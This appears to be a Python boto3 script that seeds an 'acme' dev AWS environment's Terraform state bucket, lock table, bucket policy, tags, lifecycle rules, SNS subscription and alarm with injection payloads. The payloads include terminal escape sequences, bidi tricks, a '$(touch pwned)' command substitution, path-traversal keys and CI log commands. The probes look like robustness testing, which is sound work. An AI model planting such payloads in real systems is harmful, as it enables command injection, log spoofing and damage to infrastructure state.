"""Writes text that means harm into every place of the environment `dev` of `acme` that anybody can write text into."""

import json

import boto3

base, account, region = "acme-tfstate-dev", "000000000000", "eu-west-1"
bucket, table = f"{base}-{account}-{region}", f"{base}-locks"
topic = f"arn:aws:sns:{region}:{account}:{base}-alarms"
s3, dynamodb, sns, cloudwatch = map(boto3.client, ["s3", "dynamodb", "sns", "cloudwatch"])

# Moves the cursor, sets the clipboard and the title; turns the direction; is invisible; ends a line, a quote, a tag, a command.
BAD = "\x1b]52;c;aGk=\x07\x1b[2J\x1b]0;title\x07\x9b31m\u202egpj\u2066\u200b\u2028\r\n\t\x00\"'`$(touch pwned)${x}%{y}<b>&|*_#[](x)@"
# What a name of an object can have that comes through XML.
KEY = "\u202egpj\u2066\u200b\u2028\"'`$(touch pwned)${x}%{y}<b>&|*_#[](x)@"

# Commands of CI systems, which read what a job prints line by line.
MASK, VSO, GROUP, TEAMCITY = "::add-mask::", "##vso[task.setvariable variable=A]", "##[add-mask]", "##teamcity[message text='x']"
COMMANDS = f"{MASK}a {MASK}b {VSO}c {GROUP}d {TEAMCITY}e"

for serial in (1, 2):
    attributes = {"id": BAD, BAD: serial, "tags": {BAD: BAD}}
    resource = {"module": f"module.{BAD}", "mode": "managed", "type": BAD, "name": BAD, "provider": BAD,
                "instances": [{"index_key": BAD, "attributes": attributes, "status": BAD}]}
    state = {"version": 4, "terraform_version": f"1.11.4{BAD}", "serial": serial, "lineage": BAD,
             "outputs": {BAD: {"value": BAD, "type": BAD}}, "resources": [resource] * serial, "check_results": BAD}
    body = json.dumps(state, ensure_ascii=serial == 1)
    for key in ("terraform.tfstate", f"env:/{KEY}/terraform.tfstate", f"../{KEY}/../../a.tfstate", "/etc/passwd.tfstate"):
        s3.put_object(Bucket=bucket, Key=key, Body=body.encode())
for start in (MASK, VSO, GROUP, TEAMCITY):
    s3.put_object(Bucket=bucket, Key=f"{start}x.tfstate", Body=json.dumps({**state, "terraform_version": start}).encode())
    s3.put_object(Bucket=bucket, Key=f"env:/{start}w/terraform.tfstate", Body=b"not a state")
    told = {name: f"{start}{name} {COMMANDS}" for name in ("ID", "Operation", "Info", "Who", "Version", "Path")}
    lock = json.dumps({**told, "Created": "2026-01-01T00:00:00Z"})
    s3.put_object(Bucket=bucket, Key=f"{start}x.tfstate.tflock", Body=lock, IfNoneMatch="*")
    dynamodb.put_item(TableName=table, Item={"LockID": {"S": f"{bucket}/{start}y.tfstate"}, "Info": {"S": lock}})
    dynamodb.put_item(TableName=table, Item={"LockID": {"S": f"{start}z"}, "Info": {"S": start}})
    dynamodb.put_item(TableName=table, Item={"LockID": {"S": f"{bucket}/{start}x.tfstate-md5"}, "Digest": {"S": start}})
info = {"ID": BAD, "Operation": BAD, "Info": BAD, "Who": BAD, "Version": BAD, "Created": "2026-01-01T00:00:00Z", "Path": BAD}
for path in ("terraform.tfstate", f"{KEY}/a.tfstate", f"../{BAD}"):
    for suffix, field, text in (("", "Info", json.dumps(info)), ("/broken", "Info", BAD), ("-md5", "Digest", BAD)):
        dynamodb.put_item(TableName=table, Item={"LockID": {"S": f"{bucket}/{path}{suffix}"}, field: {"S": text}})
dynamodb.put_item(TableName=table, Item={"LockID": {"S": BAD}, "Info": {"S": BAD}, BAD: {"S": BAD}})
s3.put_object(Bucket=bucket, Key="terraform.tfstate.tflock", Body=json.dumps(info), IfNoneMatch="*")
s3.put_object(Bucket=bucket, Key=f"{KEY}.tflock", Body=BAD.encode(), IfNoneMatch="*")
tags = s3.get_bucket_tagging(Bucket=bucket)["TagSet"]
s3.put_bucket_tagging(Bucket=bucket, Tagging={"TagSet": [*tags, {"Key": KEY, "Value": KEY}]})
policy = json.loads(s3.get_bucket_policy(Bucket=bucket)["Policy"])
policy["Statement"].append({"Sid": BAD, "Effect": "Deny", "Principal": {"AWS": f"arn:aws:iam::{account}:user/{BAD}"},
                            "Action": f"s3:Get{BAD}", "Resource": BAD, "Condition": {"StringEquals": {BAD: BAD}}})
s3.put_bucket_policy(Bucket=bucket, Policy=json.dumps(policy))
rules = s3.get_bucket_lifecycle_configuration(Bucket=bucket)["Rules"]
rule = {"ID": KEY[:50], "Status": "Enabled", "Filter": {"Prefix": KEY}, "NoncurrentVersionExpiration": {"NoncurrentDays": 1}}
s3.put_bucket_lifecycle_configuration(Bucket=bucket, LifecycleConfiguration={"Rules": [*rules, rule]})
sns.subscribe(TopicArn=topic, Protocol="https", Endpoint=f"https://example.org/{KEY}")
cloudwatch.put_metric_alarm(AlarmName=KEY, Namespace="AWS/DynamoDB", MetricName="UserErrors", Period=300, Statistic="Sum",
                            EvaluationPeriods=1, Threshold=1, ComparisonOperator="GreaterThanThreshold",
                            Dimensions=[{"Name": "TableName", "Value": table}])
